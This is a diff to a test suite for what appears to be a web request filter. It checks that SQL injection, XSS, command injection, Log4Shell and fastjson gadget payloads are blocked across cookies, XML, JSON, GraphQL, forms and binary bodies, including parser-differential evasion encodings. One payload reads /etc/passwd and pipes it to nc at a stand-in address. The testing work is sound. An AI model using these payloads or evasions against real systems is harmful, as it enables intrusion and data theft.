@@ -42,8 +42,25 @@ describe('an attack in a cookie', () => {
     assert.equal(cookie('a=1; id=7+UNION+ALL+SELECT+Name+FROM+Users9'), 'block')
   })
 
-  test('but honest cookies in quotes pass', () => {
-    for (const value of ['theme="dark"; lang="en\\054us"', 'q="a; b"; c="x+y z"', 'j="{\\"a\\":1}"'])
+  test('without a sign of its own is read wherever a parser begins a value', () => {
+    for (const value of [
+      'id="1 UNION SELECT password FROM users", b="2"',
+      '="1 UNION SELECT password FROM users", a="',
+      'a=1, id=1%20UNION%20SELECT%20password%20FROM%20users',
+      'id=j:["1 UNION SELECT password FROM users"]',
+      `id=${encodeURIComponent('j:{"a":"1 UNION SELECT password FROM users"}')}`,
+    ])
+      assert.equal(cookie(value), 'block', value)
+  })
+
+  test('but honest cookies in quotes, with commas or with JSON pass', () => {
+    for (const value of [
+      'v=1, a=b, c="d e"',
+      'cart=j:{"items":[1,2],"note":"one, two; three"}',
+      'theme="dark"; lang="en\\054us"',
+      'q="a; b"; c="x+y z"',
+      'j="{\\"a\\":1}"',
+    ])
       assert.equal(cookie(value), 'pass', value)
   })
 })
@@ -90,6 +107,21 @@ describe('a text of XML', () => {
     assert.equal(post(`<a><id><![CDATA [${SQL}]]></id></a>`, 'application/xml'), 'block')
   })
 
+  test('is read behind a quote that opens nothing', () => {
+    const text = `<id>${[...SQL].map(letter => `&#${letter.charCodeAt(0)};`).join('')}</id>`
+    for (const [before, behind] of [
+      ["<?x it's?><a>", '</a>'],
+      ['<?x "?><a>', '</a><?x "?>'],
+      ["<!DOCTYPE a [<!-- it's -->]><a>", '</a>'],
+      ["<!DOCTYPE a [<?x it's?>]><a>", '</a>'],
+      ['<!DOCTYPE a [<!ELEMENT a ANY><!-- 6" -->]><a>', '</a>'],
+      ["<a><!-- it's -->", '</a>'],
+      ["<a><b c=it's>", '</b></a>'],
+      ['<a b="x\'>y" c=\'>"\'>', '</a>'],
+    ] as const)
+      assert.equal(post(`${before}${text}${behind}`, 'application/xml'), 'block', before)
+  })
+
   test('is one text to readers of all that an element holds', () => {
     const words = "1' UNI|ON SEL|ECT username,pass|word FR|OM users-- -".split('|')
     assert.equal(post(`<a>${words.map(word => `<b>${word}</b>`).join('')}</a>`, 'application/xml'), 'block')
@@ -102,7 +134,161 @@ describe('a text of XML', () => {
   })
 })
 
+describe('a string of JSON', () => {
+  const cased = SQL.replaceAll(/[A-Z,-]/g, '\\$&')
+  test('is read as by parsers that take any letter behind a backslash (json of Ruby)', () => {
+    for (const attack of [cased, '\\; c\\at /\\etc/p\\asswd | \\nc', '<scr\\ipt>\\alert(1)</scr\\ipt>'])
+      for (const body of [`{"id":"${attack}"}`, `["${attack}"]`, `{"${attack}":1}`])
+        assert.equal(post(body, 'application/json'), 'block', body)
+  })
+
+  test('is read with codes of two digits (fastjson)', () => {
+    const coded = [...SQL].map(letter => `\\x${letter.charCodeAt(0).toString(16)}`).join('')
+    assert.equal(post(`{"id":"${coded}"}`, 'application/json'), 'block')
+    assert.equal(post(`{"\\x40type":"com.sun.rowset.JdbcRowSetImpl","a":1}`, 'application/json'), 'block')
+  })
+
+  test('is read so under any type, whatever stands before it', () => {
+    for (const before of ['true', 'null', '-1', '7.5'])
+      assert.equal(post(`[${before},"${cased}"]`, 'application/x-json-stream'), 'block', before)
+  })
+
+  test('is read so when it is long', () => {
+    assert.equal(post(`{"id":"${'a '.repeat(20_000)}${cased}"}`, 'application/json'), 'block')
+  })
+
+  const QUOTED = [
+    SQL,
+    '1 UNION SELECT password FROM users',
+    '<script>alert(1)</script>',
+    '; cat /etc/passwd | nc 10.1.1.1 99',
+  ]
+  const around = (text: string): string[] => [
+    `{'id':'${text}'}`,
+    `{id:'${text}'}`,
+    `{id:1,b:{c:['${text}']}}`,
+    `{"a":"6' by 4'","id":'${text}'}`,
+    `/* it's */{"id":/* it's */'${text}'}`,
+    `query:'${text}'}`,
+  ]
+  test('is read in single quotes, behind names without quotes and beside comments (Newtonsoft.Json, Gson)', () => {
+    for (const attack of QUOTED)
+      for (const text of [
+        attack.replaceAll("'", "\\'"),
+        attack.replace(/[^a-z ]/gi, letter => `\\u00${letter.charCodeAt(0).toString(16)}`),
+      ])
+        for (const body of around(text)) assert.equal(post(body, 'application/json'), 'block', body)
+  })
+
+  test('in single quotes may hold what it likes that attacks nothing', () => {
+    for (const body of around('say "hi" to Anne, and select a union of both'))
+      assert.equal(post(body, 'application/json'), 'pass', body)
+  })
+
+  test('may hold backslashes of other things', () => {
+    for (const body of [
+      '{"file":"C:\\Temp\\My Documents"}',
+      '{"pattern":"^\\d+\\s*(\\w+)$"}',
+      '{"tex":"\\alpha + \\sum_i x_i"}',
+    ])
+      assert.equal(post(body, 'application/json'), 'pass', body)
+  })
+})
+
+describe('what begins like a GraphQL document', () => {
+  const ATTACKS = [
+    SQL,
+    '<script>alert(1)</script>',
+    '; cat /etc/passwd | nc 10.1.1.1 99',
+    '${jndi:ldap://x.example/a}',
+  ]
+  test('is read as a text where it goes on as something else', () => {
+    for (const attack of ATTACKS)
+      for (const body of [
+        `{id:'${attack}'}`,
+        `query { a } ${attack}`,
+        `mutation x{}\n${attack}`,
+        `{ a } # ${attack}`,
+        `{a(b:"c")}${attack}`,
+      ])
+        for (const type of ['text/plain', 'application/json', 'application/graphql', 'application/x-other'])
+          assert.equal(post(body, type), 'block', `${type} ${body}`)
+  })
+
+  test('is read as one otherwise', () => {
+    for (const body of [
+      '{ user(id: 1, name: "x") { id ... on Admin { rights } } }',
+      'query Q($id: ID! = "1", $n: [Int!]) @a(b: {c: $id, d: -1.5e+3}) { a: user(id: $id) { ...F } } fragment F on User { id }',
+      "{ a } # it's a comment; and or union",
+      'mutation { note(text: """# A heading\nIt\'s one;\n## Another; and more""") { id } }',
+    ])
+      assert.equal(post(body, 'application/graphql'), 'pass', body)
+  })
+})
+
+describe('bytes that are not text', () => {
+  const CONTROLS = ['\0', '\u0001', 'x\0'].map(unit => unit.repeat(4_000))
+  const TYPES = ['application/json', 'text/plain', 'application/octet-stream', 'application/pdf', '']
+  test('are read as the JSON that they begin with: the decoder of Go and Jackson leave what follows', () => {
+    for (const controls of CONTROLS)
+      for (const type of TYPES)
+        for (const body of [
+          `{"id":"${SQL}"}${controls}`,
+          `{"a":1}\n{"id":"${SQL}"}${controls}`,
+          `{"id":"${SQL}","note":"${controls}"}`,
+          `{"note":"${controls}","id":"${SQL}"}`,
+          `[1,{'id':'${SQL.replace("'", "\\'")}'}]${controls}`,
+        ])
+          assert.equal(post(body, type), 'block', type)
+  })
+
+  test('are read as the XML, and as the text, that they begin with', () => {
+    for (const controls of CONTROLS) {
+      for (const body of [`<a><id>${SQL}</id></a>${controls}`, `<a b="${controls}"><id>${SQL}</id></a>`])
+        assert.equal(post(body, 'application/xml'), 'block')
+      assert.equal(post(`${'a word '.repeat(100)}${SQL}${controls}`, 'text/plain'), 'block')
+    }
+  })
+
+  test('pass where a message begins with JSON and goes on with a file', () => {
+    const noise = seededBytes(7, 20_000)
+    for (const head of [
+      '{"event_id":"9ec7"}\n{"type":"replay_recording","length":20000}\n',
+      '{"v":1}',
+      '[1,2]',
+    ])
+      for (const type of ['application/x-sentry-envelope', 'application/json', 'application/octet-stream'])
+        assert.equal(post(Buffer.concat([Buffer.from(head), noise]), type), 'pass', `${type} ${head}`)
+  })
+})
+
+function seededBytes(seed: number, length: number): Buffer {
+  let state = seed
+  return Buffer.from(
+    Array.from({ length }, () => {
+      state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
+      return state >>> 24
+    }),
+  )
+}
+
 describe('a form', () => {
+  test('is read behind semicolons, as old parsers part its fields', () => {
+    for (const form of [
+      'a=b;id=1+UNION+SELECT+password+FROM+users',
+      'a=b&amp;id=1+UNION+SELECT+password+FROM+users',
+    ]) {
+      assert.equal(post(form, FORM), 'block', form)
+      assert.equal(inspect({ method: 'GET', target: `/?${form}`, headers: [] }).verdict, 'block', form)
+    }
+    for (const form of ['a=x;y;z&b=1', 'style=color:red;width=3&amp;lang=en'])
+      assert.equal(post(form, FORM), 'pass', form)
+  })
+
+  test('is read from its first field on, though it is called JSON too', () => {
+    assert.equal(post('id=1+UNION+SELECT+password+FROM+users&b=1', `${FORM}, application/json`), 'block')
+  })
+
   const attack = encodeURIComponent(SQL).replaceAll("'", '%27')
 
   for (const first of ['{"a":1}', '<html>', '[1]'])
